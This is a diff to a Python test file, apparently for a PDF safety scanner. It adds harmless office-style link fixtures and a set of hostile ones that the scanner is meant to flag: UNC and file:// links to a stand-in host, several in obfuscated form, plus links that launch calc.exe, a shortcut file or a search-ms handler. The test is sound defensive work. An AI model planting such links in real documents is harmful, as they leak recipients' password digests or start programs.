@@ -79,6 +79,55 @@ def script_in_stream(text):
     return change
 
 
+def gotor(target):
+    return act(S=Name.GoToR, F=target, D=Array([0, Name.Fit]))
+
+
+def spec(**spellings):
+    return Dictionary(Type=Name.Filespec, **{key: String(value) for key, value in spellings.items()})
+
+
+#: Links of ordinary offices: to the web, to a file beside this one, on this machine, on a share of the own network.
+NEAR = (
+    pdf(gotor(String("lampiran.pdf"))),
+    pdf(gotor(String("../SK/lampiran 2.pdf"))),
+    pdf(gotor(spec(F="lampiran.pdf", UF="lampiran.pdf"))),
+    pdf(gotor(String("/C/data/lampiran.pdf"))),
+    pdf(act(S=Name.Thread, F=String("lampiran.pdf"), D=0)),
+    pdf(act(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a")))),
+    pdf(uri("file:///C:/Users/Siti/lampiran.docx")),
+    pdf(uri("file:///C:\\Users\\Siti\\lampiran%202.pdf")),
+    pdf(uri("file://C:/data/")),
+    pdf(uri("file:lampiran.xlsx")),
+    pdf(uri("\\\\berkas\\umum\\lampiran.pdf")),
+    pdf(uri("file://berkas/umum/lampiran.pdf")),
+    pdf(uri("lampiran/surat.pdf")),
+    pdf(uri("www.contoh.go.id:8080/a")),
+    pdf(uri("ftp://contoh.go.id/a.pdf")),
+)
+#: Links that give the password digest of whoever follows them to another machine, or start a program.
+FAR = (
+    pdf(gotor(String("\\\\contoh.invalid\\x.pdf"))),
+    pdf(gotor(String("//contoh.invalid/x.pdf"))),
+    pdf(gotor(String("/contoh/berbagi/x.pdf"))),  # how the specification writes a share
+    pdf(gotor(String("%5C%5Ccontoh.invalid%5Cx.pdf"))),
+    pdf(gotor(String("\\\\berkas\\x.pdf"))),  # may open by itself
+    pdf(gotor(String("http://contoh.invalid/x.pdf"))),
+    pdf(gotor(spec(F="lampiran.pdf", UF="\\\\contoh.invalid\\x.pdf"))),
+    pdf(gotor(spec(F="lampiran.pdf", DOS="\\\\contoh.invalid\\x.pdf"))),
+    pdf(act(S=Name.Thread, F=String("\\\\contoh.invalid\\x.pdf"), D=0)),
+    pdf(uri("file:////contoh.invalid/x")),
+    pdf(uri("file:///\\\\contoh.invalid\\x")),
+    pdf(uri("file://10.0.0.1/x")),
+    pdf(uri("file://3232235777/x")),
+    pdf(uri("%66ile://contoh.invalid/x")),
+    pdf(uri("\u200bfile://contoh.invalid/x")),
+    pdf(uri("\\\\contoh@8080\\x")),
+    pdf(uri("/\\contoh.invalid/x")),
+    pdf(uri("file:///C:/Windows/System32/calc.exe")),
+    pdf(uri("file:///C:/data/a.pdf.lnk")),
+    pdf(uri("search-ms:query=a")),
+)
 HELPERS = (
     'AFNumber_Keystroke(0, 1, 0, 0, "Rp", true);',
     'AFDate_FormatEx("dd/mm/yyyy");',
@@ -95,6 +144,7 @@ HELPERS = (
     "content",
     [
         *(pdf(script(text)) for text in HELPERS),
+        *NEAR,
         pdf(script_in_stream("AFDate_Keystroke(1)".encode("utf-16"))),
         pdf(uri("https://contoh.go.id/a")),
         pdf(uri("www.contoh.go.id")),
@@ -143,6 +193,11 @@ def test_ordinary_pdfs(content):
         (pdf(uri("file://contoh.invalid/x")), LINKS),
         (pdf(uri("\\\\contoh.invalid\\x")), LINKS),
         (pdf(uri("ms-msdt:/id x")), LINKS),
+        *((content, LINKS) for content in FAR),
+        (pdf(act(S=Name.GoToE, F=String("x.pdf"), T=Dictionary(R=Name.C))), ACTIONS),
+        (pdf(gotor(Dictionary(FS=Name.URL, F=String("http://contoh.invalid/x.pdf")))), ACTIONS),
+        (pdf(xfa(b"<xdp><template><image href='http://contoh.invalid/a.png'/></template></xdp>")), ACTIONS),
+        (pdf(xfa(b"<?xml version='1.0' encoding='utf-7'?><xdp/>")), ACTIONS),
         (pdf(xfa(b"<a:xdp xmlns:a='x'><a:script>1</a:script></a:xdp>")), ACTIONS),
         (pdf(xfa("<xdp><submit target='http://x'/></xdp>".encode("utf-16"))), ACTIONS),
         (pdf(xfa(b"<xdp><not closed")), ACTIONS),
